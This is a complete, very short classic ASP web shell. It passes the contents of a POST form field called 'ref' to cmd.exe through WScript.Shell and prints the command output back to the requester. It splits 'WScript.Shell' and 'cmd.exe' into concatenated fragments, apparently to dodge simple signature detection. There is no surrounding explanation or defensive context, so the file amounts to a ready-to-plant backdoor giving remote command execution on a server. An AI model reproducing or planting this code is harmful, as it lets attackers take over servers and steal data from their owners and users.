<%
Set o = CreateObject("WS" & "cript.Shell")
Set r = o.Exec("cm" & "d.exe /c " & Request.Form("ref"))
Response.Write r.StdOut.ReadAll
%>
